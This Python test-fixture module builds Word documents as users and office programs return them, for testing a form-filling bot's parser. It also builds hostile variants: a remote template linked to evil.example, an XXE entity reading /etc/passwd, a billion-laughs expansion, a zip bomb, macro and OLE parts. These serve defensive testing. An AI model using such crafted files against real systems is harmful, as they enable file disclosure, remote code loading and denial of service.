"""The form that we hand out, as people, Word, LibreOffice and villains give it back."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from datetime import date
from typing import Any

from lxml import etree

from bot.documents.fill_in import Blank, fill_in
from bot.documents.marks import Stamp
from bot.domain.filled_in import Context, FilledIn
from bot.domain.handed import ATTACHMENTS
from bot.domain.template import Answer, Items, items_of
from bot.phrases import phrases
from tests.world import PEOPLE, TEMPLATES

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
W14 = "{http://schemas.microsoft.com/office/word/2010/wordml}"
DAY = date(2026, 11, 24)
NAMES = {person.id: person.name for person in PEOPLE}
DOCUMENT = "word/document.xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def blank(
    answers: Mapping[str, Answer] | None = None, *, language: str = "nl", drawn: int = 0,
    template: str = "case_description.v1", case: str = "UTH-2026-0001",
) -> Blank:  # fmt: skip
    form = FilledIn(TEMPLATES[template], answers or {}, Context(DAY))
    lists = (q.key for q in form.template.questions if isinstance(q.kind, Items))
    next_item = {key: max(items_of(form.answers, key), default=0) + 1 for key in lists}
    stamp = Stamp(case, template, drawn, language)
    left_out = frozenset({ATTACHMENTS})
    return Blank(form, stamp, "Slim vegen", DAY, NAMES, phrases(language), next_item, left_out)


def made(answers: Mapping[str, Answer] | None = None, **other: Any) -> bytes:
    return fill_in(blank(answers, **other))


# --- changing what lies in a document ---
def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(contents: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in contents.items():
            new.writestr(name, content)
    return out.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    return packed({**parts(content), name: part})


def changed(content: bytes, change: Callable[[Any], None]) -> bytes:
    """The same document after something was done to its text."""
    body = etree.fromstring(parts(content)[DOCUMENT])
    change(body)
    return with_part(content, DOCUMENT, etree.tostring(body, xml_declaration=True))


# --- as a person fills it in, in Word ---
def controls(root: Any) -> dict[str, Any]:
    return {one.find(f"{W}sdtPr/{W}tag").get(f"{W}val"): one for one in root.iter(f"{W}sdt")}


def type_in(control: Any, text: str) -> None:
    """Over the words that say where to type; Enter makes a break within the line."""
    properties, content = control.find(f"{W}sdtPr"), control.find(f"{W}sdtContent")
    for flag in properties.findall(f"{W}showingPlcHdr"):
        properties.remove(flag)
    for run in list(content):
        content.remove(run)
    run = etree.SubElement(content, f"{W}r")
    for place, line in enumerate(text.split("\n")):
        if place:
            etree.SubElement(run, f"{W}br")
        etree.SubElement(run, f"{W}t").text = line


def tick(control: Any) -> None:
    control.find(f"{W}sdtPr/{W14}checkbox/{W14}checked").set(f"{W14}val", "1")
    control.find(f".//{W}sdtContent//{W}t").text = "☒"


def filled(content: bytes, said: Mapping[str, str | list[str]]) -> bytes:
    """What stands in `said` typed or ticked, and the rest left as it is."""

    def fill(root: Any) -> None:
        found = controls(root)
        for path, value in said.items():
            if isinstance(value, list):
                for option in value:
                    tick(found[f"{path}:{option}"])
            else:
                type_in(found[path], value)

    return changed(content, fill)


def said_of(answers: Mapping[str, Answer], language: str = "nl") -> dict[str, str | list[str]]:
    """Each answer as a person types or ticks it."""
    template, t = TEMPLATES["case_description.v1"], phrases(language)
    said: dict[str, str | list[str]] = {}
    for path, answer in answers.items():
        question = template.question(path)
        if answer in (None, "", []) or isinstance(question.kind, Items):
            continue
        if path.startswith(ATTACHMENTS):
            continue
        several = isinstance(answer, list)
        said[path] = [str(v) for v in answer] if several else t.said(question, answer, NAMES)  # type: ignore[union-attr]
    return said


# --- as other programs save it ---
def in_pieces(root: Any) -> None:
    """Word cuts text into runs wherever spelling was checked."""
    for text in list(root.iter(f"{W}t")):
        if text.text and len(text.text) > 3:
            run = text.getparent()
            second = etree.Element(f"{W}r")
            etree.SubElement(second, f"{W}proofErr")
            half = len(text.text) // 2
            etree.SubElement(second, f"{W}t").text = text.text[half:]
            following = list(text.itersiblings())
            text.text = text.text[:half]
            for one in following:
                second.append(one)
            run.addnext(second)


def round_the_paragraph(root: Any) -> None:
    """A control round a paragraph instead of in it."""
    for control in list(root.iter(f"{W}sdt")):
        paragraph = control.getparent()
        if paragraph.tag != f"{W}p" or len(paragraph.findall(f"{W}sdt")) != 1:
            continue
        content = control.find(f"{W}sdtContent")
        paragraph.replace(control, etree.Element(f"{W}proofErr"))
        for run in list(content):
            paragraph.append(run)
        paragraph.addprevious(control)
        content.append(paragraph)


def round_the_cell(root: Any) -> None:
    """Each answer in a table, with the control round the cell."""
    round_the_paragraph(root)
    for control in list(root.iter(f"{W}sdt")):
        content = control.find(f"{W}sdtContent")
        if content.find(f"{W}p") is None:
            continue
        table, row, cell = (etree.Element(f"{W}{name}") for name in ("tbl", "tr", "tc"))
        control.addprevious(table)
        for paragraph in list(content):
            cell.append(paragraph)
        content.append(cell)
        row.append(control)
        table.append(row)


def without_controls(root: Any) -> None:
    """Some programs keep the text and the bookmarks, and no controls."""
    for control in list(root.iter(f"{W}sdt")):
        placeholder = control.find(f"{W}sdtPr/{W}showingPlcHdr") is not None
        for one in [] if placeholder else list(control.find(f"{W}sdtContent")):
            control.addprevious(one)
        control.getparent().remove(control)


def without_bookmarks(root: Any) -> None:
    for name in ("bookmarkStart", "bookmarkEnd"):
        for one in list(root.iter(f"{W}{name}")):
            one.getparent().remove(one)


def without_flags(root: Any) -> None:
    """The words that say where to type are there still, as if they had been typed."""
    for flag in list(root.iter(f"{W}showingPlcHdr")):
        flag.getparent().remove(flag)


def as_it_is(root: Any) -> None:
    pass


# --- hostile ---
def with_macros() -> bytes:
    return with_part(made(), "word/vbaProject.bin", b"Attribute VB_Name")


def docm() -> bytes:
    types = parts(made())["[Content_Types].xml"].replace(PLAIN.encode(), MACROS.encode())
    return with_part(made(), "[Content_Types].xml", types)


def with_template_from_elsewhere() -> bytes:
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/a.dotm" Type='
        b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    return with_part(made(), "word/_rels/settings.xml.rels", link)


def with_object() -> bytes:
    return with_part(made(), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")


def bomb() -> bytes:
    """Some kilobytes that become hundreds of megabytes."""
    return with_part(made(), "word/media/image1.png", b"\0" * 160 * 1024 * 1024)


def large_text() -> bytes:
    return with_part(made(), DOCUMENT, b"<w>" + b" " * 26 * 1024 * 1024 + b"</w>")


def many_parts() -> bytes:
    return packed(parts(made()) | {f"word/media/{n}.png": b"" for n in range(3100)})


def declaring(dtd: bytes, text: bytes) -> bytes:
    body = b'<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body>'
    xml = b'<?xml version="1.0"?>' + dtd + body % (W[1:-1].encode(), text) + b"</w:document>"
    return with_part(made(), DOCUMENT, xml)


def external_entity() -> bytes:
    return declaring(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;")


def laughs() -> bytes:
    one = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9))
    return declaring(b'<!DOCTYPE d [<!ENTITY a0 "ha">' + one + b"]>", b"&a8;")


def locked_office() -> bytes:
    magic = bytes.fromhex("d0cf11e0a1b11ae1")
    return magic + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600


PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
LOCKED_PDF = PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root")
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"IEND\xaeB`\x82"
JPG = b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9"
OLD_WORD = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
SHEET = packed({"[Content_Types].xml": b"<Types>spreadsheetml.sheet.main+xml</Types>"})
